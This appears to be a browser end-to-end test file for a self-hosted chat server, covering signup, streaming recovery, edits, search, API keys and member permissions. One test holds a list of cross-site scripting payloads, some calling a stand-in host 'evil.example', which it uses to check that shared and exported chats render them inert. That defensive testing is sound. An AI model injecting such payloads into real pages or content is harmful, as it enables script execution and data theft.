import { existsSync } from "node:fs";
import { fileURLToPath } from "node:url";
import { type Browser, type BrowserContext, chromium, type Locator, type Page } from "playwright-core";
import { afterAll, afterEach, beforeAll, describe, expect, it } from "vitest";
import { type LoopbackHub, startHub } from "./loopback-hub.ts";
import { type RunningServer, startServer } from "./running-server.ts";

const CHROMIUM = process.env["CHROMIUM"] ?? ["/usr/bin/chromium", "/usr/bin/google-chrome"].find((path) => existsSync(path));
const DEMO = fileURLToPath(new URL("../../../../models/demo/arriero-demo.gguf", import.meta.url));
const PASSWORD = "long enough words";
const OWNER = { name: "Inés", email: "ines@example.org" };
/** Seconds of an answer that says itself over and over; the same one each time. */
const LONG = { repeatPenalty: 0.5, temperature: 0, seed: 7, maxTokens: 1_400 };
const LONG_QUESTION = "What is Arriero?";
/** Each would set `window.harmed`, or ask another server. The page's own tests have more of them. */
const HOSTILE = [
  "<script>window.harmed=1</script><img src=x onerror='window.harmed=1'>",
  '<iframe srcdoc="<script>parent.harmed=1</script>"></iframe> [a link](javascript:window.harmed=1)',
  '<svg onload="window.harmed=1"><script>window.harmed=1</script></svg> ![x](https://evil.example/?stolen)',
  "$$\\href{javascript:window.harmed=1}{x}$$ <style>@import 'https://evil.example/x.css';</style>",
  '```mermaid\ngraph TD; A["<img src=https://evil.example/x onerror=window.harmed=1>"] --> B; click A href "javascript:window.harmed=1"\n```',
];
/** A server that is gone for a moment; and KaTeX's own styles, which the policy drops before React sets them one by one. */
const EXPECTED = /^(Failed to load resource|Applying inline style violates)/;
/** The whole way of a newcomer, from the address to the first answer. */
const FIRST_ANSWER_MS = 60_000;

interface Message {
  readonly state: string;
  readonly text: string;
}

/** The page as `arriero up` serves it, in a real browser, with the demo model and the embedded database behind it. */
describe.skipIf(CHROMIUM === undefined)("the page of a real server, in a browser", { timeout: 120_000 }, () => {
  let hub: LoopbackHub;
  let server: RunningServer;
  let browser: Browser;
  let context: BrowserContext;
  let page: Page;
  const faults: string[] = [];

  const visitor = async () => {
    const visit = await browser.newContext({ locale: "en" });
    visit.on("weberror", (error) => faults.push(String(error.error())));
    visit.on("console", (message) => {
      // What the frame of diagrams holds back was tried in vain: that is what it is for.
      if (new URL(message.location().url || server.url).pathname.startsWith("/diagram/")) return;
      if (message.type() === "error" && !EXPECTED.test(message.text())) faults.push(message.text());
    });
    visit.setDefaultTimeout(30_000);
    return visit;
  };

  beforeAll(async () => {
    hub = await startHub("caravan/demo-GGUF", DEMO);
    process.env["HF_ENDPOINT"] = hub.url;
    server = await startServer();
    // As root, which Chromium's own sandbox refuses.
    const args = process.getuid?.() === 0 ? ["--no-sandbox"] : [];
    browser = await chromium.launch({ executablePath: CHROMIUM as string, args });
    context = await visitor();
    page = await context.newPage();
  }, 120_000);

  afterEach(() => expect(faults.splice(0)).toEqual([]));
  afterAll(async () => {
    await browser?.close();
    await server?.stop();
    hub?.close();
  });

  const question = (on: Page) => on.getByPlaceholder("Write a message");
  const answer = (on: Page) => on.getByRole("article", { name: "Answer", exact: true }).last();
  const growing = (on: Page) => on.getByRole("article", { name: "Answering" });
  const said = async (of: Locator) => {
    // Markdown is read by code that comes when it is first needed.
    const paragraphs = of.locator("[class*=prose] p");
    await paragraphs.first().waitFor();
    return (await paragraphs.allTextContents()).join("\n");
  };
  const askIn = async (on: Page, text: string) => {
    await question(on).fill(text);
    await on.keyboard.press("Enter");
  };
  const whole = (on: Page) =>
    answer(on)
      .getByText(/\d+ tokens/)
      .waitFor();
  /** Asks the page's API as the page does: its own origin, its own cookie. */
  const api = <T>(method: string, path: string, body?: unknown): Promise<T> =>
    page.evaluate(
      async ([method, path, body]) => {
        const headers = { "content-type": "application/json" };
        const response = await fetch(path as string, { method: method as string, headers, body: body as string });
        if (!response.ok) throw new Error(`${path}: ${response.status} ${await response.text()}`);
        return response.json();
      },
      [method, path, body === undefined ? undefined : JSON.stringify(body)],
    ) as Promise<T>;
  const newLong = async () => (await api<{ id: string }>("POST", "/api/conversations", { parameters: LONG })).id;
  const lastMessage = async (id: string) =>
    (await api<{ entries: Message[] }>("GET", `/api/conversations/${id}/messages?limit=1`)).entries[0]!;
  const signIn = async (on: Page, email: string) => {
    await on.getByLabel("E-mail").fill(email);
    await on.getByLabel("Password").fill(PASSWORD);
    await on.getByRole("button", { name: "Sign in" }).click();
  };

  it("makes the owner and answers within a minute of the first click", async () => {
    const startedAt = performance.now();
    await page.goto(server.url);
    await page.getByLabel("Your name").fill(OWNER.name);
    await page.getByLabel("E-mail").fill(OWNER.email);
    await page.getByLabel("Password").fill(PASSWORD);
    await page.getByRole("button", { name: "Create account" }).click();
    await askIn(page, "What is Arriero?");
    await whole(page);
    expect(performance.now() - startedAt).toBeLessThan(FIRST_ANSWER_MS);
    expect(await said(answer(page))).toContain("Arriero takes open language models");
  });

  it("goes on over a reload, a second tab and a killed gateway: the same whole text everywhere, token for token", async () => {
    const undisturbed = await newLong();
    await page.goto(`${server.url}/c/${undisturbed}`);
    await askIn(page, LONG_QUESTION);
    await whole(page);
    const expected = await lastMessage(undisturbed);
    expect(expected.state).toBe("complete");
    const expectedShown = await said(answer(page));

    const disturbed = await newLong();
    const second = await context.newPage();
    await second.goto(`${server.url}/c/${disturbed}`);
    await question(second).waitFor();
    await page.goto(second.url());
    await askIn(page, LONG_QUESTION);
    await growing(page).locator("p").first().waitFor();
    await page.reload();
    for (const tab of [page, second]) await growing(tab).locator("p").first().waitFor();
    await server.kill();
    // Both tabs still show what they had; nothing is lost to the reader, and nothing pretends to be the end.
    for (const tab of [page, second]) expect(await growing(tab).count()).toBe(1);
    server = await startServer([], server.home, Number(new URL(server.url).port));
    for (const tab of [page, second]) {
      await whole(tab);
      expect(await said(answer(tab))).toBe(expectedShown);
    }
    expect(await lastMessage(disturbed)).toMatchObject({ state: "complete", text: expected.text });
    await second.close();
  });

  it("stops an answer where it stands, and keeps what was written", async () => {
    const id = await newLong();
    await page.goto(`${server.url}/c/${id}`);
    await askIn(page, LONG_QUESTION);
    await growing(page).locator("p").first().waitFor();
    await page.getByRole("button", { name: "Stop" }).click();
    await page.getByText("You stopped this answer.").waitFor();
    const kept = await lastMessage(id);
    expect(kept.state).toBe("stopped");
    expect(kept.text).not.toBe("");
    const shown = await said(answer(page));
    await page.reload();
    await page.getByText("You stopped this answer.").waitFor();
    expect(await said(answer(page))).toBe(shown);
  });

  it("edits a question beside the first, and goes back to the first", async () => {
    await page.goto(server.url);
    await askIn(page, "How do I add a model?");
    await whole(page);
    const first = await said(answer(page));
    const asked = page.getByRole("article", { name: "You" });
    await asked.hover();
    await asked.getByRole("button", { name: "Edit" }).click();
    await page.getByLabel("Edit").fill("What is a replica?");
    await page.getByRole("button", { name: "Send as a new version" }).click();
    await page.getByRole("group", { name: "Version 2 of 2" }).waitFor();
    await whole(page);
    const other = await said(answer(page));
    expect(other).not.toBe(first);
    await asked.getByRole("button", { name: "Previous version" }).click();
    await page.getByText("How do I add a model?").last().waitFor();
    await expect.poll(() => said(answer(page))).toBe(first);
    await page.reload();
    await page.getByRole("group", { name: "Version 1 of 2" }).waitFor();
    expect(await said(answer(page))).toBe(first);
  });

  it("finds what was said", async () => {
    await page.getByRole("link", { name: "Search" }).click();
    await page.getByRole("searchbox").fill("what is arriero");
    await page.locator("mark").first().waitFor();
    await page
      .getByRole("link", { name: /What is Arriero\?/ })
      .last()
      .click();
    await page.waitForURL(/\/c\//);
    expect(await said(answer(page))).toContain("Arriero takes open language models");
  });

  it("makes a key that opens the API, and revokes it", async () => {
    await page.goto(`${server.url}/operate/keys`);
    await page.getByRole("button", { name: "New key" }).click();
    const dialog = page.getByRole("dialog");
    await dialog.getByLabel("Name").fill("a program");
    await dialog.getByRole("button", { name: "New key" }).click();
    const key = (await dialog.locator("code").textContent()) ?? "";
    await dialog.getByRole("button", { name: "Close" }).last().click();
    const models = () => fetch(`${server.url}/v1/models`, { headers: { authorization: `Bearer ${key}` } });
    expect((await models()).status).toBe(200);
    await page
      .getByRole("row", { name: /a program/ })
      .getByRole("button", { name: "Revoke" })
      .click();
    await page.getByRole("dialog").getByRole("button", { name: "Revoke" }).click();
    await page.getByText("No keys yet").waitFor();
    expect((await models()).status).toBe(401);
  });

  it("pulls a model, and offers it", async () => {
    await page.goto(`${server.url}/operate/models`);
    await page.getByLabel("Get a model").fill(`file:${DEMO}`);
    await page.getByRole("button", { name: "Pull" }).click();
    await page.getByRole("alert").getByText("not read for callers").waitFor();
    await page.getByLabel("Get a model").fill("hf.co/caravan/demo-GGUF");
    await page.getByRole("button", { name: "Pull" }).click();
    await page.getByText(/is here\.$/).waitFor();
    await expect.poll(async () => (await page.getByRole("cell").allTextContents()).join(" | ")).toMatch(/(?<!arriero-)demo/);
    await page.goto(server.url);
    await page.getByRole("button", { name: /^Model: / }).click();
    await page
      .getByRole("menuitemradio")
      .filter({ hasText: /(?<!arriero-)demo/ })
      .waitFor();
    await page.keyboard.press("Escape");
  });

  it("offers a member what is theirs, and none of the operators' pages", async () => {
    await page.goto(`${server.url}/operate/members`);
    await page.getByRole("button", { name: "Invite" }).click();
    const dialog = page.getByRole("dialog");
    await dialog.getByLabel("E-mail").fill("tomas@example.org");
    await dialog.getByRole("button", { name: "Invite" }).click();
    const link = (await dialog.locator("code").textContent()) ?? "";
    const theirs = await visitor();
    const tab = await theirs.newPage();
    await tab.goto(link);
    await tab.getByLabel("Your name").fill("Tomás");
    await tab.getByLabel("Password").fill(PASSWORD);
    await tab.getByRole("button", { name: "Join" }).click();
    await question(tab).waitFor();
    expect(await tab.getByRole("link", { name: "What is Arriero?" }).count()).toBe(0);
    await tab.getByRole("button", { name: "Tomás" }).click();
    expect(await tab.getByRole("menuitem", { name: "Operate" }).count()).toBe(0);
    await tab.keyboard.press("Escape");
    await tab.goto(`${server.url}/operate/keys`);
    await tab.getByRole("navigation", { name: "Operate" }).waitFor();
    expect(await tab.getByRole("navigation", { name: "Operate" }).getByRole("link").allTextContents()).toEqual([
      "Usage and cost",
      "Keys",
    ]);
    for (const view of ["models", "replicas", "members", "audit", "health"]) {
      await tab.goto(`${server.url}/operate/${view}`);
      await tab.getByText("There is nothing here").waitFor();
    }
    await theirs.close();
  });

  it("keeps what was written to do harm inert, shared and exported", async () => {
    const messages = HOSTILE.flatMap((text, at) => [
      { id: `q${at}`, parentId: at === 0 ? null : `a${at - 1}`, role: "user", text, createdAt: at },
      { id: `a${at}`, parentId: `q${at}`, role: "assistant", text: `${text}\n\nthe end`, reasoning: text, createdAt: at },
    ]);
    const conversation = { title: HOSTILE[0], createdAt: 1, updatedAt: Date.now(), leafId: `a${HOSTILE.length - 1}`, messages };
    await api("POST", "/api/import", { format: "arriero-chats-1", conversations: [conversation] });
    const { entries } = await api<{ entries: { id: string; title: string }[] }>("GET", "/api/conversations");
    const { id } = entries.find(({ title }) => title === HOSTILE[0])!;
    const share = await api<{ path: string }>("POST", "/api/shares", { conversationId: id, audience: "anyone" });
    const stranger = await visitor();
    const asked: string[] = [];
    stranger.on("request", (request) => {
      const { origin, protocol } = new URL(request.url());
      if (protocol !== "data:") asked.push(origin);
    });
    const tab = await stranger.newPage();
    await tab.goto(server.url + share.path);
    await expect.poll(() => tab.getByText("the end", { exact: true }).count(), { timeout: 30_000 }).toBe(HOSTILE.length);
    for (const seen of [tab, page]) {
      if (seen === page) await page.goto(`${server.url}/c/${id}`);
      await seen.getByText("the end", { exact: true }).last().waitFor();
      await seen.getByRole("img", { name: "Diagram" }).waitFor();
      expect(await seen.evaluate("window.harmed")).toBeUndefined();
      expect(await seen.locator("article :is(script, iframe, style, [onload], [onerror], [href^='javascript'])").count()).toBe(0);
    }
    expect([...new Set(asked)]).toEqual([server.url]);
    await stranger.close();
    // An export is saved, never shown.
    for (const format of ["json", "markdown"]) {
      const saved = page.waitForEvent("download");
      await page.goto(`${server.url}/api/export?conversation=${id}&format=${format}`).catch(() => undefined);
      expect((await saved).suggestedFilename()).toMatch(/^arriero-chats\./);
    }
  });

  it("has everything again after signing out and in", async () => {
    await page.goto(server.url);
    await page.getByRole("button", { name: OWNER.name }).click();
    await page.getByRole("menuitem", { name: "Sign out" }).click();
    await signIn(page, OWNER.email);
    // The oldest of this name.
    await page.getByRole("link", { name: "What is Arriero?" }).last().click();
    await whole(page);
    expect(await said(answer(page))).toContain("Arriero takes open language models");
  });
});
